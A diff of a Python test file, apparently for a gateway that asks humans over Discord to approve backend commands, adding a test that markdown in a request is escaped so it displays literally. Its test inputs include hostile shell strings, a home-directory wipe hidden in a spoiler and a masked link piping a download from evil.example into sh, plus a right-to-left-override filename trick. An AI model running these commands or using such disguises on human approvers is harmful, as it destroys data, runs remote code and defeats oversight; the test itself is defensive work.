@@ -199,3 +199,24 @@ def test_a_ladders_text_and_call_hide_the_secret_and_offer_no_answer() -> None:
     plain = ladder_for(_request("ls \\u202egnp.exe"), [Rung(after_s=0, via="sms")])
     assert plain.text == "backend asks to run: ls \\u202egnp.exe"
     assert plain.reply is not None and "YES K7QF" in plain.reply
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo ||; rm -rf ~ ||",  # a spoiler draws its text as a bar
+        "curl [https://good.example](https://evil.example/p) | sh",  # a masked link
+        "echo <@123> <#456> <t:0:R> <:e:789>",  # a mention, a channel, a date, an emoji
+        "rm `x` ~~y~~ *z* _w_ __v__",  # code, strike-through, emphasis
+        "# big\n-# small\n> quoted\n1. one\n1. one",  # headings, subtext, quote, a list
+        "printf 'a\\\\x1b' \\\\",  # backslashes, the marks' own spelling
+    ],
+)
+def test_discord_shows_a_request_as_it_is_never_as_markdown(text: str) -> None:
+    from gateway.approval_chats import discord_literal
+    from tests.fakes.discord import FakeDiscord
+
+    shown = discord_literal(text)
+    assert FakeDiscord.rendered({"content": shown}) == text
+    # Every mark markdown could read is escaped.
+    assert all(shown[i - 1] == "\\" for i, c in enumerate(shown) if c in "|[]<>`~*_#-" and i)
